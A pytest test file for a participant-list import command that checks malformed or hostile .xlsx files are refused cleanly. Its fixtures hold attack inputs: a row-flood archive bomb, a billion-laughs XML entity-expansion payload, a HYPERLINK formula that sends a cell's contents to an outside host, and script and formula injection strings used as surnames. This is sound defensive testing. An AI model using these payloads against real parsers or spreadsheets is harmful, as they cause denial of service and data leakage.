"""Files that no list should be: one clear sentence, exit 2, nothing written, within seconds."""

import io
import json
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest

from beneficiaries.models import Person
from portal.imports.models import ImportBatch
from tests.commands import run
from tests.workbooks import ListOfPeople

SECONDS = 8


def good(path: Path) -> Path:
    people = ListOfPeople()
    people.supported()
    return people.save(path)


def with_part(path: Path, name: str, content: bytes | Callable[[bytes], bytes]) -> Path:
    """Write a good list with one part of the archive replaced."""
    source = good(path.with_suffix(".good.xlsx"))
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            data = old.read(part)
            if part == name:
                data = content(data) if callable(content) else content
            new.writestr(part, data)
    return path


def text_file(path: Path) -> None:
    path.write_text("Lp.;Nazwisko\n1;Nikt\n", encoding="utf-8")


def empty_file(path: Path) -> None:
    path.touch()


def other_archive(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("readme.txt", "nothing")


def broken_archive(path: Path) -> None:
    path.write_bytes(good(path.with_suffix(".good.xlsx")).read_bytes()[:-400])


def folder(path: Path) -> None:
    path.mkdir()


def bomb(path: Path) -> None:
    with_part(
        path,
        "xl/worksheets/sheet1.xml",
        b"<worksheet><sheetData>" + b"<row/>" * 20_000_000 + b"</sheetData></worksheet>",
    )


def many_rows(path: Path) -> None:
    rows = "".join(f'<row r="{n}"><c r="B{n}"><v>1</v></c></row>' for n in range(5, 100_005))
    with_part(
        path, "xl/worksheets/sheet1.xml", lambda data: data.replace(b"</sheetData>", rows.encode() + b"</sheetData>")
    )


def formula(path: Path) -> None:
    book = openpyxl.load_workbook(good(path.with_suffix(".good.xlsx")))
    book["Uczestnicy"]["B4"] = '=HYPERLINK("http://example.org/"&F4)'
    book.save(path)


def wrong_encoding(path: Path) -> None:
    with_part(
        path,
        "xl/worksheets/sheet1.xml",
        lambda data: b'<?xml version="1.0" encoding="utf-8"?>' + data.replace(b"<c ", b"<c \xff\xfe\xb3", 1),
    )


def entities(path: Path) -> None:
    text = (
        '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
        + ']><worksheet><sheetData><row><c t="inlineStr"><is><t>&j;</t></is></c></row></sheetData></worksheet>'
    )
    with_part(path, "xl/worksheets/sheet1.xml", text.encode())


def broken_xml(path: Path) -> None:
    with_part(path, "xl/worksheets/sheet1.xml", lambda data: data[: len(data) // 2])


def no_sheet(path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["Lp.", "Nazwisko"])
    book.save(path)


def no_header(path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.title = "Uczestnicy"
    for number in range(50):
        book.active.append([number, "Bondar", "Olena"])
    book.save(path)


def empty_sheet(path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.title = "Uczestnicy"
    book.save(path)


def giant_cell(path: Path) -> None:
    """More than Excel lets anybody write."""
    cell = f'<row r="5"><c r="B5" t="inlineStr"><is><t>{"x" * 32_768}</t></is></c></row></sheetData>'.encode()
    with_part(path, "xl/worksheets/sheet1.xml", lambda data: data.replace(b"</sheetData>", cell))


def sheet_twice(path: Path) -> None:
    book = openpyxl.load_workbook(good(path.with_suffix(".good.xlsx")))
    book.copy_worksheet(book["Wsparcie"]).title = "WSPARCIE "
    book.save(path)


def absent(path: Path) -> None:
    """Nothing is made."""


MAKERS = (
    text_file, empty_file, other_archive, broken_archive, folder, bomb, many_rows, formula, wrong_encoding, entities,
    broken_xml, no_sheet, no_header, empty_sheet, giant_cell, sheet_twice, absent,
)  # fmt: skip


@pytest.mark.parametrize("make", MAKERS, ids=lambda make: make.__name__)
def test_a_file_that_is_no_list_is_refused_with_one_line(sopot, tmp_path, capsys, make):
    path = tmp_path / "list.xlsx"
    make(path)
    report = tmp_path / "report.json"
    began = time.process_time()
    ran = run(capsys, "import_participants", path, "--project", "sopot-5.15", "--report", report)
    assert time.process_time() - began < SECONDS  # of work, so that a busy machine does not matter
    assert (ran.code, ran.out, len(ran.lines)) == (2, "", 1)
    assert "Traceback" not in ran.err
    assert ran.err.strip()
    assert not ImportBatch.objects.exists()
    assert not Person.objects.exists()
    assert not report.exists()


@pytest.mark.parametrize(
    "arguments",
    [
        pytest.param(["--project", "nothing-1.1"], id="unknown project"),
        pytest.param([], id="no project"),
        pytest.param(["--project", "sopot-5.15", "--report", "/nowhere/at/all/report.json"], id="no such folder"),
        pytest.param(["--project", "sopot-5.15", "--report", "."], id="the report is a folder"),
        pytest.param(["--project", "sopot-5.15", "--report", "/proc/report.json"], id="unwritable folder"),
        pytest.param(["--project", "sopot-5.15", "--unknown"], id="unknown option"),
    ],
)
def test_arguments_that_cannot_be_used_are_one_line_and_nothing_is_written(sopot, tmp_path, capsys, arguments):
    ran = run(capsys, "import_participants", good(tmp_path / "list.xlsx"), *arguments)
    assert (ran.code, ran.out, len(ran.lines)) == (2, "", 1)
    assert not ImportBatch.objects.exists()
    assert not Person.objects.exists()


def test_a_list_with_far_too_many_filled_cells_is_refused_before_it_is_read(sopot, tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("portal.imports.workbook.MAX_VALUES", 20)
    monkeypatch.setattr("openpyxl.load_workbook", lambda *_args, **_how: pytest.fail("opened"))
    ran = run(capsys, "import_participants", good(tmp_path / "list.xlsx"), "--project", "sopot-5.15")
    assert (ran.code, ran.out, len(ran.lines)) == (2, "", 1)
    assert not ImportBatch.objects.exists()


def test_no_file_at_all_is_one_line(sopot, capsys):
    ran = run(capsys, "import_participants", "--project", "sopot-5.15")
    assert (ran.code, ran.out, len(ran.lines)) == (2, "", 1)


def test_a_file_that_may_not_be_read_is_one_line(sopot, tmp_path, capsys, monkeypatch):
    path = good(tmp_path / "list.xlsx")

    def forbidden(*_args, **_values):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(io, "open", forbidden)
    monkeypatch.setattr("pathlib.Path.read_bytes", forbidden)
    ran = run(capsys, "import_participants", path, "--project", "sopot-5.15")
    assert (ran.code, len(ran.lines)) == (2, 1)
    assert not ImportBatch.objects.exists()


@pytest.mark.parametrize("name", ["Zażółć\u202egnp", "<script>alert(1)</script>", "=1+1", "Ім’я" * 20, "a\x07b"])
def test_odd_names_are_data(sopot, tmp_path, capsys, name):
    people = ListOfPeople()
    people.supported(surname=openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", name) if name != "=1+1" else "'=1+1")
    ran = run(capsys, "import_participants", people.save(tmp_path / "list.xlsx"), "--project", "sopot-5.15")
    assert ran.code == 0
    assert Person.objects.count() == 1
    assert "\u202e" not in Person.objects.get().surname
    assert escape(name) not in ran.out


def test_a_list_without_people_is_a_list(sopot, tmp_path, capsys):
    ran = run(capsys, "import_participants", ListOfPeople().save(tmp_path / "list.xlsx"), "--project", "sopot-5.15")
    assert (ran.code, ran.err) == (0, "")


def test_the_report_is_the_same_on_stdout_and_in_the_file(sopot, tmp_path, capsys):
    path, report = good(tmp_path / "list.xlsx"), tmp_path / "report.json"
    ran = run(capsys, "import_participants", path, "--project", "sopot-5.15", "--report", report, "--format", "json")
    written = json.loads(report.read_text(encoding="utf-8"))
    assert (ran.code, ran.err, json.loads(ran.out)) == (0, "", written)
    head = ["rows", "created", "merged", "held", "unchanged", "incomplete", "people", "held_rows", "incomplete_rows"]
    assert list(written)[: len(head)] == head
    assert written["people"] == [{"lp": 1, "person": "WS-0001"}]


def test_a_list_with_held_rows_is_exit_0(sopot, tmp_path, capsys):
    people = ListOfPeople()
    people.supported(citizen="Polska")
    ran = run(capsys, "import_participants", people.save(tmp_path / "list.xlsx"), "--project", "sopot-5.15")
    assert (ran.code, ran.err, len(ran.lines)) == (0, "", 1)
